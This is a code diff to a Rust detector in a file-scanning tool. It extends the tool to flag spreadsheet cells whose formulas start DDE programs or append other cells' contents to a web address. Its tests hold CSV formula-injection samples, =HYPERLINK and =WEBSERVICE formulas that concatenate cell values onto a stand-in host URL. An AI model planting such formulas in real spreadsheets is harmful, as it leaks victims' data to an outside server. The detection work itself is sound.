@@ -1,8 +1,9 @@
 //! Tables of text (`.csv`, `.tsv`, and texts that bear the name of a workbook): cells that Excel takes for formulas
-//! which start programs by DDE.
+//! which start programs by DDE, or add what other cells hold to an address.
 //!
 //! Left out: every other formula. Office tables are full of values that begin with a minus sign.
 
+use super::outward;
 use crate::artifact::{Artifact, Fact, Format, Opened};
 use crate::keyring::Keyring;
 use crate::kind::extension;
@@ -17,6 +18,8 @@ const OPENED: &[&str] =
     &["csv", "tsv", "xls", "xlsx", "xlsm", "xlsb", "xlt", "xla", "dif", "prn", "slk", "xlw"];
 /// Links of one table that are noted.
 const MOST_LINKS: usize = 20;
+/// Formulas of one line that are read.
+const MOST_FORMULAS: usize = 100;
 
 impl Format for Table {
     fn id(&self) -> &'static str {
@@ -35,20 +38,34 @@ impl Format for Table {
         out: &mut Opened,
         budget: &mut Budget,
     ) -> Result<(), Stop> {
-        if memchr::memchr(b'|', &artifact.bytes).is_none() {
+        if memchr::memchr2(b'|', b'(', &artifact.bytes).is_none() {
             return Ok(());
         }
         let text = guess(&artifact.bytes);
         budget.tick()?;
         let links =
             text.lines().filter(|line| line.contains('|')).flat_map(|line| line.split([',', ';', '\t']));
-        for fact in links.filter_map(cell).take(MOST_LINKS) {
+        let calls = text.lines().filter(|line| line.contains('(')).flat_map(calls);
+        for fact in links.filter_map(cell).chain(calls).take(MOST_LINKS) {
             if !out.facts.contains(&fact) {
                 out.facts.push(fact);
             }
         }
         Ok(())
     }
+}
+
+/// What calls in the formulas of a line reach. Separators stand within formulas too, so that each is read to the end of
+/// the line.
+fn calls(line: &str) -> Vec<Fact> {
+    let after = line.match_indices([',', ';', '\t']).map(|(at, _)| at + 1);
+    let rests = std::iter::once(0).chain(after).filter_map(|at| line.get(at..));
+    let formulas = rests.filter_map(|rest| {
+        rest.trim_start_matches(['"', ' ', '\u{feff}']).strip_prefix(['=', '+', '-', '@'])
+    });
+    let named = formulas.filter(|formula| formula.starts_with(|c: char| c.is_ascii_alphabetic()));
+    let facts = named.take(MOST_FORMULAS).flat_map(outward::quoted_facts);
+    facts.filter(|fact| !matches!(fact, Fact::External { relation, .. } if relation == "dde")).collect()
 }
 
 /// The link in a cell that Excel takes for a formula.
@@ -91,6 +108,23 @@ mod tests {
             _ => None,
         });
         targets.collect()
+    }
+
+    #[test]
+    fn addresses_with_cells_are_told() {
+        assert_eq!(
+            links(
+                "a.csv",
+                "Name,Total\nx,\"=HYPERLINK(\"\"http://a.example/?x=\"\"&A1&\"\",\"\"&B2,\"\"Details\"\")\"\n"
+            ),
+            ["http://a.example/?x=, (HYPERLINK)"]
+        );
+        assert_eq!(
+            links("a.csv", "=WEBSERVICE(\"http://a.example/\"&A1)\n"),
+            ["http://a.example/ (WEBSERVICE)"]
+        );
+        assert_eq!(links("a.csv", "=HYPERLINK(\"https://www.a.example/\",\"Our site\"),-5\n"), [""; 0]);
+        assert_eq!(links("a.csv", "see HYPERLINK(\"http://a.example/\"&A1)\n"), [""; 0]);
     }
 
     #[test]
